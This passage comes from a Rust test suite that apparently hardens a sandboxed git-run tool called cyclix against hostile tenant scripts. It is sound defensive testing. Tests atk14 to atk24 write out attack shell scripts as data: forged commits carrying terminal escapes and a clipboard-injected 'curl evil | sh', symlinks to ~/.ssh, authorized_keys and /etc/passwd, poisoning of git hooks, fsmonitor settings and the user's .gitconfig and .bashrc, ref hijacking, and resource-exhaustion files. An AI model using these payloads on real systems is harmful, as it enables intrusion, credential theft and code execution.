    positive_control(
        prepared(),
        "atk14",
        r#"printf '#!/bin/sh\n%s\n' "$M" > $S/gpg; chmod +x $S/gpg
c=$( { printf 'tree %s\nparent %s\nauthor A <a@a> 1700000000 +0000\ncommitter A <a@a> 1700000000 +0000\ngpgsig -----BEGIN PGP SIGNATURE-----\n x\n -----END PGP SIGNATURE-----\n\nsigned\n' $(git rev-parse HEAD^{tree}) $(git rev-parse HEAD); } | git hash-object -t commit -w --stdin)
git -c gpg.program=$S/gpg log -1 --show-signature $c >/dev/null 2>&1"#,
    );
    attack(
        14,
        "atk14",
        r#"legit
P=$(git rev-parse HEAD); TR=$(git rev-parse HEAD^{tree})
mk() { git hash-object -t commit -w --literally --stdin; }
c1=$( { printf 'tree %s\nparent %s\nauthor A <a@a> 1700000000 +0000\ncommitter A <a@a> 1700000000 +0000\nencoding x-evil-$(touch /tmp/cyclix-pwned-%s)\ngpgsig -----BEGIN PGP SIGNATURE-----\n %s\n -----END PGP SIGNATURE-----\n\n' $TR $P "$N" "$(head -c 300 /dev/urandom | base64 -w0)"
  printf 'pgp \033]0;pwned\007\033[2J\033[31m red \377\376 bad utf8 \033]8;;file:///etc/passwd\033\\link\033]8;;\033\\\n\nbody\n'; } | mk)
c2=$( { printf 'tree %s\nparent %s\nauthor B <b@b> 1700000001 +0000\ncommitter B <b@b> 1700000001 +0000\ngpgsig -----BEGIN SSH SIGNATURE-----\n U1NIU0lH\n -----END SSH SIGNATURE-----\nmergetag object %s\n type commit\n tag x\n\n' $TR $c1 $P
  printf 'ssh \033[?1049h\033[8m hidden \033]52;c;%s\007\n' "$(printf 'curl evil | sh' | base64 -w0)"; } | mk)
c3=$( { printf 'tree %s\nparent %s\nauthor C <c@c> 1700000002 +0000\ncommitter C <c@c> 1700000002 +0000\ngpgsig -----BEGIN SIGNED MESSAGE-----\n MIIB\n -----END SIGNED MESSAGE-----\ngpgsig-sha256 -----BEGIN PGP SIGNATURE-----\n x\n -----END PGP SIGNATURE-----\n\n' $TR $c2
  printf 'x509 \033P+q544e\033\\ %s\n' "$(printf '\302\205\342\200\256')"; } | mk)
say "crafted $c1 $c2 $c3"
[ -n "$c3" ] && git update-ref HEAD "$c3" && say "branch at $c3"
"#,
        Delivery::Required,
        |_, o| {
            let mut f = Vec::new();
            if o.rec_text.contains('\u{1b}') {
                f.push("the run record carries a raw ESC from a commit subject".to_string());
            }
            let subjects = o.rec["commits"].to_string();
            if !subjects.contains("Fix calc.subtract") {
                f.push(format!(
                    "the record's commits lack the legit one: {subjects}"
                ));
            }
            f
        },
    );
}

#[test]
fn atk15_huge_object() {
    positive_control(
        prepared(),
        "atk15",
        r#"head -c 300000000 /dev/zero > zeros.bin; git add zeros.bin; git commit -qm zeros
git checkout -q -b pc; rm zeros.bin; git checkout -q -- zeros.bin
[ "$(stat -c %s zeros.bin)" = 300000000 ] && $M"#,
    );
    attack(
        15,
        "atk15",
        r#"legit
head -c 300000000 /dev/zero > /work/zeros.bin && git add zeros.bin && git commit -qm "300 MB of zeros" && say "committed 300 MB"
"#,
        Delivery::Optional,
        |tb, o| {
            let mut f = Vec::new();
            if o.secs > 300.0 {
                f.push(format!("the run took {:.0} s", o.secs));
            }
            let _ = tb.user_sh(&format!(
                "cd ~/src/{} && git checkout -q main 2>/dev/null; rm -f zeros.bin",
                o.tenant
            ));
            f
        },
    );
}

#[test]
fn atk16_symlinks_out_of_the_tree() {
    positive_control(
        prepared(),
        "atk16",
        r"ln -s /home/cyx/.ssh ssh-link; git add ssh-link; git commit -qm links; git checkout -q -b pc
ls ssh-link/ | grep -q canary && $M",
    );
    attack(
        16,
        "atk16",
        r#"legit
ln -s /home/cyx/.ssh ssh-link; ln -s ../../.. up; ln -s /home/cyx/src/$T/.git/config cfg-link
ln -s /home/cyx/.bashrc bashrc; ln -s /etc/passwd pw
git add ssh-link up cfg-link bashrc pw && git commit -qm "symlinks" && say "committed symlinks"
ln -s /home/cyx uncommitted-home; ln -s / root-link; ln -s ../../../../../.. way-up
ln -s /home/cyx/.ssh/authorized_keys .pytest_cache; ln -s /home/cyx/.bashrc .cyclix
mkdir -p evil && ln -s /home/cyx/src/$T/.git evil/.git
"#,
        // `up` and `root-link` make the gate's pytest walk the gate container's whole file
        // system: the gate times out, the run ends as an error and nothing is imported.
        Delivery::Optional,
        |tb, o| {
            let out = tb.user_sh(&format!(
                "cat ~/.ssh/canary-{t}; ls -A ~/.ssh; ls -la ~/.bashrc 2>&1",
                t = o.tenant
            ));
            let s = String::from_utf8_lossy(&out.stdout).into_owned();
            let mut f = Vec::new();
            if !s.starts_with("canary\n") || s.contains("authorized_keys") {
                f.push(format!("~/.ssh was touched: {s}"));
            }
            f
        },
    );
}

#[test]
fn atk17_the_users_git_dir_at_its_host_path() {
    positive_control(
        prepared(),
        "atk17",
        r"changed_after 'git rev-parse HEAD > .git/refs/heads/pwned'",
    );
    attack(
        17,
        "atk17",
        r#"legit
TIP=$(git rev-parse HEAD)
for d in "$UD" $(find / -xdev -maxdepth 7 \( -name .git -o -name '*.git' \) -type d 2>/dev/null | grep -v '^/work'); do
  [ -d "$d" ] || continue
  say "found git dir $d"
  try sh -c "echo $TIP > '$d/refs/heads/pwned-$N'"
  try sh -c "echo '$TIP' > '$d/refs/heads/main'"
  hook "$d/hooks/post-checkout"
  try sh -c "printf '[core]\n\tfsmonitor = $PAY\n' >> '$d/config'"
  poison_cfg "$d/config.worktree"
  try sh -c "echo pwned > '$d/description'"
  try sh -c "echo x > '/home/cyx/src/$T/pwned-$N.txt'"
done
for f in /home/cyx/.gitconfig /home/cyx/.config/git/config /home/cyx/.bashrc /home/cyx/.profile; do
  try sh -c "mkdir -p \$(dirname $f) && printf '[core]\n\tfsmonitor = $PAY\n' >> $f"
done
"#,
        Delivery::Required,
        none,
    );
}

// ---- the new seam: the run's private repository -----------------------------------------

#[test]
fn atk18_extra_refs_in_the_runs_namespace_and_main() {
    positive_control(
        prepared(),
        "atk18",
        r"changed_after 'git update-ref refs/heads/cyclix/x/other HEAD'",
    );
    attack(
        18,
        "atk18",
        r#"legit
TIP=$(git rev-parse HEAD)
EVIL=$(git commit-tree -p "$BASE" -m "evil main" "$TIP^{tree}")
try git branch "cyclix/$T/$RUN-2" "$TIP"
try git update-ref "refs/heads/cyclix/$T/other" "$EVIL"
try git update-ref "refs/heads/cyclix/$T/x/y" "$EVIL"
try git update-ref refs/heads/main "$EVIL"
try git update-ref refs/tags/v1 "$EVIL"
try git update-ref refs/remotes/origin/main "$EVIL"
try git update-ref refs/notes/commits "$EVIL"
try git symbolic-ref "refs/heads/cyclix/$T/sym" refs/heads/main
"#,
        Delivery::Required,
        none,
    );
}

#[test]
fn atk19_orphan_history_without_the_base() {
    positive_control(
        prepared(),
        "atk19",
        r"git checkout -q --orphan o; git rm -rqf .; echo evil > evil.txt; git add evil.txt; git commit -qm orphan
git merge-base --is-ancestor main o || $M",
    );
    attack(
        19,
        "atk19",
        r#"legit
git checkout -q --orphan tmp-orphan && git rm -rqf . && echo evil > evil.txt && git add evil.txt && git commit -qm "orphan" && ORPH=$(git rev-parse HEAD)
[ -n "$ORPH" ] && git update-ref "refs/heads/$BR" "$ORPH" && git checkout -q "$BR" && git branch -D tmp-orphan >/dev/null && say "branch $BR is now the orphan $ORPH"
"#,
        Delivery::Optional,
        |tb, o| {
            if o.branch.is_empty() {
                return Vec::new();
            }
            let out = tb.user_sh(&format!(
                "cd ~/src/{} || exit 0; b=refs/heads/{}; git rev-parse -q --verify $b >/dev/null || exit 0; \
                 git merge-base --is-ancestor {} $b || echo ORPHAN-DELIVERED",
                o.tenant, o.branch, o.base
            ));
            let s = String::from_utf8_lossy(&out.stdout).into_owned();
            if s.contains("ORPHAN-DELIVERED") {
                vec![format!(
                    "a history without the base was delivered as {}",
                    o.branch
                )]
            } else {
                Vec::new()
            }
        },
    );
}

#[test]
fn atk20_git_config_and_fifos_that_hang() {
    positive_control(
        prepared(),
        "atk20",
        r"mkfifo .git/objects/info/alternates; timeout 5 git log -1 >/dev/null 2>&1; [ $? = 124 ] && $M",
    );
    attack(20, "atk20", ATK20, Delivery::Optional, not_hung);
}

#[test]
fn atk21_hostile_tree_at_teardown() {
    positive_control(
        prepared(),
        "atk21",
        r#"mkdir -p $S/trap/a; echo x > $S/trap/a/f; chmod 000 $S/trap/a
python3 -c "import os; os.chdir('$S/trap'); [(os.mkdir('d'), os.chdir('d')) for _ in range(10000)]"
mkfifo $S/trap/fifo
rm -rf $S/trap 2>/dev/null || $M
chmod -R u+rwx $S 2>/dev/null"#,
    );
    attack(
        21,
        "atk21",
        r#"legit
mkdir -p trap/a trap/b; echo x > trap/a/f; chmod 000 trap/a/f; chmod 000 trap/a; chmod 000 trap
python3 -c "import os; os.chdir('/work'); os.mkdir('deep'); os.chdir('deep'); [(os.mkdir('d'), os.chdir('d')) for _ in range(10000)]" && say "10000 levels deep"
mkfifo fifo1 "$GD/fifo2"; python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.bind('/work/sock')"
touch f1 "$(printf 'new\nline')" -- '-rf' '--no-preserve-root' "$(printf '\033[2J')"
try chown 1234 f1; try chown 1234:1234 fifo1; try useradd -u 1234 evil
mkdir -p ro && touch ro/x && chmod 555 ro && chmod 000 ro/x
mkdir -p sticky && chmod 1777 sticky
chmod 000 "$GD/fifo2" 2>/dev/null
"#,
        Delivery::Required,
        none,
    );
}

#[test]
fn atk22_run_branch_as_a_symref_a_tag_or_a_tree() {
    positive_control(
        prepared(),
        "atk22",
        r"changed_after 'git symbolic-ref refs/heads/cyclix/x/sym refs/heads/main'",
    );
    attack(
        22,
        "atk22",
        r#"legit
TIP=$(git rev-parse HEAD)
TAG=$(printf 'object %s\ntype commit\ntag evil\ntagger A <a@a> 1700000000 +0000\n\nevil\n' "$TIP" | git mktag 2>/dev/null)
TREE=$(git rev-parse "$TIP^{tree}")
try git update-ref "refs/heads/cyclix/$T/$RUN-tag" "$TAG"
try git update-ref "refs/heads/cyclix/$T/$RUN-tree" "$TREE"
try git symbolic-ref "refs/heads/cyclix/$T/$RUN-sym" refs/heads/main
# The run branch itself becomes a symbolic ref to main (moved to the tip) ...
try git update-ref refs/heads/main "$TIP"
git checkout -q --detach
try git symbolic-ref "refs/heads/$BR" refs/heads/main
# ... and HEAD a symbolic ref to a tag name.
try git update-ref refs/tags/evil "$TAG"
"#,
        Delivery::Optional,
        |tb, o| {
            if o.branch.is_empty() {
                return Vec::new();
            }
            let out = tb.user_sh(&format!(
                "cd ~/src/{} || exit 0; b=refs/heads/{}; git rev-parse -q --verify $b >/dev/null || exit 0; \
                 [ \"$(git cat-file -t $b)\" = commit ] || echo NOT-A-COMMIT; \
                 git symbolic-ref -q $b && echo SYMREF; \
                 git merge-base --is-ancestor {} $b || echo NOT-ON-BASE",
                o.tenant, o.branch, o.base
            ));
            let s = String::from_utf8_lossy(&out.stdout).into_owned();
            if s.trim().is_empty() {
                Vec::new()
            } else {
                vec![format!("the delivered branch {} is wrong: {s}", o.branch)]
            }
        },
    );
}

#[test]
fn atk23_a_bundle_over_the_cap() {
    positive_control(
        prepared(),
        "atk23",
        r#"head -c 600000000 /dev/urandom > big.bin; git add big.bin; git commit -qm big
git bundle create $S/b.bundle main~1..main >/dev/null 2>&1
[ "$(stat -c %s $S/b.bundle)" -gt 536870912 ] && $M"#,
    );
    attack(
        23,
        "atk23",
        r#"legit
head -c 600000000 /dev/urandom > /work/big.bin && git add big.bin && git commit -qm "600 MB of noise" && say "committed 600 MB"
rm -f /work/big.bin
"#,
        Delivery::Optional,
        |tb, o| {
            let mut f = Vec::new();
            if o.secs > 400.0 {
                f.push(format!("the run took {:.0} s", o.secs));
            }
            // Not counting the execute-only copy of the cyclix binary the probes run from
            // (`$XDG_RUNTIME_DIR/cyclix/bin`, one per binary, ~130 MiB for a debug build).
            let out = tb.user_sh(
                "echo $(( $(df --output=used -B1M $XDG_RUNTIME_DIR | tail -1) - $(du -sm $XDG_RUNTIME_DIR/cyclix/bin 2>/dev/null | cut -f1 || echo 0) ))",
            );
            let used: u64 = String::from_utf8_lossy(&out.stdout)
                .trim()
                .parse()
                .unwrap_or(0);
            if used > 100 {
                f.push(format!(
                    "{used} MiB still used in $XDG_RUNTIME_DIR after the run"
                ));
            }
            let _ = tb.user_sh(&format!(
                "cd ~/src/{} && git checkout -q main 2>/dev/null; rm -f big.bin",
                o.tenant
            ));
            f
        },
    );
}

#[test]
fn atk24_replace_refs_grafts_and_shallow_in_its_own_repo() {
    positive_control(
        prepared(),
        "atk24",
        r#"git checkout -q -b w; echo a > a; git add a; git commit -qm a; echo b > b; git add b; git commit -qm b
git replace --graft HEAD main~0 2>/dev/null; git replace --graft HEAD~1 2>/dev/null
n=$(git rev-list --count main..w); n2=$(git --no-replace-objects rev-list --count main..w)
[ "$n" != "$n2" ] && $M"#,
    );
    attack(
        24,
        "atk24",
        r#"legit
TIP=$(git rev-parse HEAD)
echo one > one.txt && git add one.txt && git commit -qm "one"
echo two > two.txt && git add two.txt && git commit -qm "two"
# The tip's parent is replaced by an orphan: a walk with replace refs never reaches the base.
O=$(git commit-tree -m "orphan stand-in" "$(git rev-parse HEAD^^{tree})")
try git replace -f HEAD^ "$O"
try git replace --graft HEAD
try sh -c "echo $(git rev-parse HEAD) > '$GD/shallow'"
mkdir -p "$GD/info" && try sh -c "echo $(git rev-parse HEAD) >> '$GD/info/grafts'"
say "history now: $(git rev-list --count HEAD) commits (replaced), real $(git --no-replace-objects rev-list --count HEAD 2>/dev/null)"
"#,
        Delivery::Optional,
        |tb, o| {
            if o.branch.is_empty() {
                return Vec::new();
            }
            let out = tb.user_sh(&format!(
                "cd ~/src/{} || exit 0; b=refs/heads/{}; git rev-parse -q --verify $b >/dev/null || exit 0; \
                 git --no-replace-objects merge-base --is-ancestor {base} $b || echo NOT-ON-BASE; \
                 git --no-replace-objects rev-list --objects {base}..$b >/dev/null 2>&1 || echo MISSING-OBJECTS",
                o.tenant, o.branch, base = o.base
            ));
            let s = String::from_utf8_lossy(&out.stdout).into_owned();
            if s.trim().is_empty() {
                Vec::new()
            } else {
                vec![format!("the delivered branch {} is wrong: {s}", o.branch)]
            }
        },
    );
}
